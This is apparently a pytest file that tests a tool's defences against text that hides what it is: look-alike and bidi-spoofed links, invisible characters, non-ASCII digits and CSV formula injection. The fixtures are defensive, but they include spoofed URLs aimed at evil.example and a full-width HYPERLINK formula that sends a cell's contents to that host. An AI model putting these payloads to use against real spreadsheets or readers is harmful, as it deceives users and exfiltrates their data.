"""Text that hides what it is (third review, F7-F9): look-alike and hidden links, invisible
characters, full-width formula starts, digits that only look ASCII.

Every expectation here is written out, never computed by the code under test.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
from pathlib import Path

import pytest
from tests.conftest import MINIMAL

from painopts.render.csv_format import guard
from painopts.render.text import inert, is_address

# F7: one link policy for every format.

GOOD_LINKS = [
    "https://doi.org/10.1000/test.1",
    "https://pubmed.ncbi.nlm.nih.gov/123456/",
]
HIDDEN_URLS = {
    "fraction-slash": "https://pubmed.ncbi.nlm.nih.gov\u2044evil.example/12345/",
    "userinfo": "https://pubmed.ncbi.nlm.nih.gov@evil.example/12345/",
    "cyrillic-i": "https://pubmed.ncbi.nlm.n\u0456h.gov/12345/",
    "bidi-override": "https://example.org/\u202egpj.exe",
    "userinfo-after-port": "https://example.org:443@evil.example/",
    "backslash": "https://example.org\\@evil.example/",
}


@pytest.mark.parametrize(
    "word",
    [
        "https://example.org",
        "http://example.org:8080/a?b=c#d",
        "https://doi.org/10.1000/x(1)",
        "https://pubmed.ncbi.nlm.nih.gov/123456/",
    ],
)
def test_plain_ascii_addresses_are_links(word: str) -> None:
    assert is_address(word)


@pytest.mark.parametrize("word", [*HIDDEN_URLS.values(), "ftp://example.org", "javascript:x"])
def test_hidden_and_look_alike_addresses_are_not_links(word: str) -> None:
    assert not is_address(word)


def with_source_url(url: str, folder: Path) -> Path:
    path = folder / "links.yaml"
    path.write_text(MINIMAL.read_text().replace("https://example.org/test", url))
    return path


def hrefs(html: str) -> list[str]:
    return sorted({h for h in re.findall(r'href="([^"]*)"', html) if not h.startswith("#")})


def markdown_links(markdown: str) -> list[str]:
    return sorted(set(re.findall(r"<(https?://[^>]*)>", markdown)))


@pytest.mark.parametrize("name", sorted(HIDDEN_URLS))
@pytest.mark.parametrize("command", [("show", "alpha"), ("claims", "--long")])
def test_html_and_markdown_link_only_the_plain_addresses(
    cli, tmp_path: Path, name: str, command: tuple[str, ...]
) -> None:
    path = with_source_url(HIDDEN_URLS[name], tmp_path)
    html = cli("--data", str(path), *command, "-f", "html")
    markdown = cli("--data", str(path), *command, "-f", "markdown")
    assert (html.code, markdown.code) == (0, 0)
    assert hrefs(html.out) == GOOD_LINKS
    assert markdown_links(markdown.out) == GOOD_LINKS


@pytest.mark.parametrize("name", sorted(HIDDEN_URLS))
def test_a_link_cell_with_a_hidden_address_links_nothing(cli, tmp_path: Path, name: str) -> None:
    """In the sources table a source's addresses share one cell: all links, or all text."""
    path = with_source_url(HIDDEN_URLS[name], tmp_path)
    html = cli("--data", str(path), "sources", "-f", "html")
    markdown = cli("--data", str(path), "sources", "-f", "markdown")
    assert (html.code, markdown.code) == (0, 0)
    assert hrefs(html.out) == []
    assert markdown_links(markdown.out) == []


def test_a_hidden_doi_is_not_linked(cli, tmp_path: Path) -> None:
    path = tmp_path / "doi.yaml"
    path.write_text(MINIMAL.read_text().replace("doi: 10.1000/test.1", 'doi: "10.1000/x\\u202e"'))
    html = cli("--data", str(path), "show", "alpha", "-f", "html")
    assert html.code == 0
    assert hrefs(html.out) == [
        "https://example.org/test",
        "https://pubmed.ncbi.nlm.nih.gov/123456/",
    ]
    assert "https://doi.org/10.1000/x\\u202e" in html.out  # shown, escaped, not linked


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("pmid: 123456", 'pmid: "\uff11\uff12\uff13"'),  # full-width digits
        ("pmid: 123456", 'pmid: "\u0661\u0662\u0663"'),  # Arabic-Indic digits
        ("version: 1.0.0", 'version: "\uff11.\uff12.\uff13"'),
        ("doi: 10.1000/test.1", 'doi: "10.\uff11\uff10\uff10\uff10/x"'),
    ],
    ids=["pmid-full-width", "pmid-arabic-indic", "version-full-width", "doi-full-width"],
)
def test_digits_must_be_ascii(cli, tmp_path: Path, old: str, new: str) -> None:
    path = tmp_path / "digits.yaml"
    path.write_text(MINIMAL.read_text().replace(old, new))
    result = cli("validate", "-f", "json", str(path))
    assert result.code == 1
    assert [p["code"] for p in json.loads(result.out)["problems"]] == ["PO204"]


# F8: invisible and format characters never reach the terminal raw.


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("ketamine\u200b", "ketamine\\u200b"),
        ("a\u061cb", "a\\u061cb"),
        ("soft\u00adhyphen", "soft\\u00adhyphen"),
        ("\ufeffbom", "\\ufeffbom"),
        ("word\u2060joiner", "word\\u2060joiner"),
        ("mongolian\u180e", "mongolian\\u180e"),
        ("zwj\u200d", "zwj\\u200d"),
        ("line\u2028sep\u2029", "line\\u2028sep\\u2029"),
        ("tag\U000e0041", "tag\\udb40\\udc41"),
        ("\u202eevil", "\\u202eevil"),
        ("caf\u00e9 \u00a0\u3000 ok", "caf\u00e9 \u00a0\u3000 ok"),  # visible text is kept
    ],
)
def test_invisible_characters_are_shown_as_escapes(raw: str, shown: str) -> None:
    assert inert(raw) == shown


def test_every_format_character_of_this_pythons_unicode_is_escaped() -> None:
    hidden = [
        chr(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in {"Cf", "Zl", "Zp"}
    ]
    assert len(hidden) > 150
    assert [c for c in hidden if inert(c) == c] == []


def test_escapes_read_back_as_the_same_text_in_json() -> None:
    raw = "a\u061cb\U000e0041c\u200b\x9b"
    assert json.loads(f'"{inert(raw)}"') == raw


INVISIBLE_NAME = "Alpha\u061c\u200b\u00ad\u2060\ufeff"


@pytest.mark.parametrize(
    "fmt", ["table", "plain", "markdown", "html", "json", "csv"], ids=lambda fmt: fmt
)
def test_invisible_characters_in_a_name_reach_no_output_raw(cli, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / "invisible.yaml"
    path.write_text(MINIMAL.read_text().replace("name: Alpha", f'name: "{INVISIBLE_NAME}"'))
    result = cli("--data", str(path), "list", "-f", fmt)
    assert result.code == 0
    raw = [c for c in result.out if unicodedata.category(c) in {"Cf", "Zl", "Zp"}]
    assert raw == []
    assert "\\u061c" in result.out


# F9: the CSV formula guard.


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("a=1", "a=1"),
        ("1-2", "1-2"),
        ("", ""),
    ],
)
def test_the_formula_guard(cell: str, written: str) -> None:
    assert guard(cell) == written


FULL_WIDTH = '\uff1dHYPERLINK("http://evil.example/?"&A1,"x")'


def test_a_full_width_formula_in_a_name_is_guarded_in_csv(cli, tmp_path: Path) -> None:
    path = tmp_path / "formula.yaml"
    quoted = FULL_WIDTH.replace('"', '\\"')
    path.write_text(MINIMAL.read_text().replace("name: Alpha", f'name: "{quoted}"'))
    guarded = cli("--data", str(path), "list", "-f", "csv")
    unguarded = cli("--data", str(path), "--no-formula-guard", "list", "-f", "csv")
    assert (guarded.code, unguarded.code) == (0, 0)
    cells = [cell for row in csv.reader(io.StringIO(guarded.out)) for cell in row]
    assert "'" + FULL_WIDTH in cells
    assert FULL_WIDTH not in cells
    assert FULL_WIDTH in [cell for row in csv.reader(io.StringIO(unguarded.out)) for cell in row]
